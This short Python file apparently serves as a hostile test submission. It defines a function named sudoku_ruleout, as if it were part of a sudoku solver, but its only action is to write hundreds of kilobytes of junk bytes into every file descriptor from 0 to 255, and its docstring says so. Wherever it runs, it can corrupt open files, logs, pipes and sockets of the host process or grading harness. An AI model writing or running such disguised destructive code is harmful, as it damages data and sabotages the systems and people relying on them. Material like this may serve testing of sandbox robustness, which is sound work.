"""Writes megabytes of rubbish into every descriptor that it can find."""
# %% ruleout
import os
def sudoku_ruleout(self, i, j, x):
    for fd in range(256):
        for _ in range(50):
            try:
                os.write(fd, b"\x00\x00\x00\x05" * 50_000)
            except OSError:
                break
    return set()
